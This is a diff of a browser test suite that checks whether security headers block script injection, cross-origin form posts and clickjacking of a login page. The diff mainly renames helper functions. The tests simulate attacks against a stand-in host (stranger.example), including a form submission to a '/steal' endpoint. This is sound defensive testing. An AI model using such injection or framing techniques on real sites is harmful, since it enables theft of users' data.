@@ -6,11 +6,16 @@ const OTHER_ORIGIN = 'http://stranger.example';
 const INJECTED_SCRIPT = "document.documentElement.dataset.hacked = 'yes';";
 
 /** Serves `path` with `markup` in its head and without some headers. */
-async function inject(page: Page, path: string, markup: string, without: string[]): Promise<void> {
+async function serveInjected(
+  page: Page,
+  path: string,
+  markup: string,
+  removedHeaders: string[],
+): Promise<void> {
   await page.route(path, async (route) => {
     const response = await route.fetch();
     const headers = Object.fromEntries(
-      Object.entries(response.headers()).filter(([name]) => !without.includes(name)),
+      Object.entries(response.headers()).filter(([name]) => !removedHeaders.includes(name)),
     );
     const body = (await response.text()).replace('<head>', () => `<head>${markup}`);
     await route.fulfill({ response, headers, body });
@@ -18,7 +23,7 @@ async function inject(page: Page, path: string, markup: string, without: string[
 }
 
 /** Acts as a third-party server, and returns the requests it gets. */
-async function runFromOtherOrigin(page: Page, body: string): Promise<string[]> {
+async function serveOtherOrigin(page: Page, body: string): Promise<string[]> {
   const requests: string[] = [];
   const contentType = body.startsWith('<') ? 'text/html' : 'text/javascript';
   await page.route(`${OTHER_ORIGIN}/**`, async (route) => {
@@ -36,10 +41,10 @@ const WEAK_SCRIPTS = {
 };
 
 /** Runs in the page. */
-const postElsewhere = (address: string) => {
+const postForm = (url: string) => {
   const form = document.createElement('form');
   form.method = 'post';
-  form.action = address;
+  form.action = url;
   document.body.append(form);
   form.submit();
 };
@@ -77,28 +82,32 @@ for (const [name, markup, violation] of ATTACKS)
     tag: '@browser',
   }, async ({ page, context, watch }) => {
     watch.allow(/./);
-    const attack = async (tab: Page, without: string[]) => {
+    const runAttack = async (targetPage: Page, removedHeaders: string[]) => {
       for (const [path, body] of Object.entries(WEAK_SCRIPTS))
-        await tab.route(path, (route) => route.fulfill({ contentType: 'text/javascript', body }));
-      const requests = await runFromOtherOrigin(tab, INJECTED_SCRIPT);
-      await inject(tab, '/about', markup, without);
-      await tab.goto('/about');
-      if (markup === '') await tab.evaluate(postElsewhere, `${OTHER_ORIGIN}/steal`);
-      const isHacked = (runFromOtherOrigin: string) =>
+        await targetPage.route(path, (route) =>
+          route.fulfill({ contentType: 'text/javascript', body }),
+        );
+      const requests = await serveOtherOrigin(targetPage, INJECTED_SCRIPT);
+      await serveInjected(targetPage, '/about', markup, removedHeaders);
+      await targetPage.goto('/about');
+      if (markup === '') await targetPage.evaluate(postForm, `${OTHER_ORIGIN}/steal`);
+      const isHacked = (otherOrigin: string) =>
         document.documentElement.dataset.hacked === 'yes' ||
-        document.baseURI.startsWith(runFromOtherOrigin);
+        document.baseURI.startsWith(otherOrigin);
       const hasSucceeded = async () =>
-        requests.some((line) => line.startsWith('POST')) ||
+        requests.some((request) => request.startsWith('POST')) ||
         // A page that's navigating away can't be read.
-        (await tab.evaluate(isHacked, OTHER_ORIGIN).catch(() => false));
+        (await targetPage.evaluate(isHacked, OTHER_ORIGIN).catch(() => false));
       return { requests, hasSucceeded };
     };
-    const tab = await context.newPage();
-    await expect.poll((await attack(tab, ['content-security-policy'])).hasSucceeded).toBe(true);
-    await tab.close();
+    const otherPage = await context.newPage();
+    await expect
+      .poll((await runAttack(otherPage, ['content-security-policy'])).hasSucceeded)
+      .toBe(true);
+    await otherPage.close();
     expect(watch.violations).toEqual([]);
 
-    const { requests, hasSucceeded } = await attack(page, []);
+    const { requests, hasSucceeded } = await runAttack(page, []);
     await expect.poll(() => watch.violations).toContain(violation);
     // By the load event, everything on the page has run.
     await page.waitForLoadState('load');
@@ -110,20 +119,20 @@ test('either of two headers keeps other sites from framing the login; without bo
   tag: '@browser',
 }, async ({ page, baseURL, watch }) => {
   watch.allow(/./);
-  const address = new URL('/login', baseURL).href;
-  await runFromOtherOrigin(page, `<title>Stranger</title><iframe src="${address}"></iframe>`);
+  const loginUrl = new URL('/login', baseURL).href;
+  await serveOtherOrigin(page, `<title>Stranger</title><iframe src="${loginUrl}"></iframe>`);
   const heading = page.frameLocator('iframe').getByRole('heading', { name: 'Login' });
-  for (const without of ['x-frame-options', 'content-security-policy']) {
-    await inject(page, address, '', [without]);
+  for (const removedHeaders of ['x-frame-options', 'content-security-policy']) {
+    await serveInjected(page, loginUrl, '', [removedHeaders]);
     const blockedRequest = page.waitForEvent('requestfailed');
     await page.goto(`${OTHER_ORIGIN}/`);
     const request = await blockedRequest;
-    expect(request.url()).toBe(address);
+    expect(request.url()).toBe(loginUrl);
     expect(request.failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
     await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
     await expect(heading).toHaveCount(0);
   }
-  await inject(page, address, '', ['x-frame-options', 'content-security-policy']);
+  await serveInjected(page, loginUrl, '', ['x-frame-options', 'content-security-policy']);
   await page.goto(`${OTHER_ORIGIN}/`);
   await expect(heading).toBeVisible();
 });
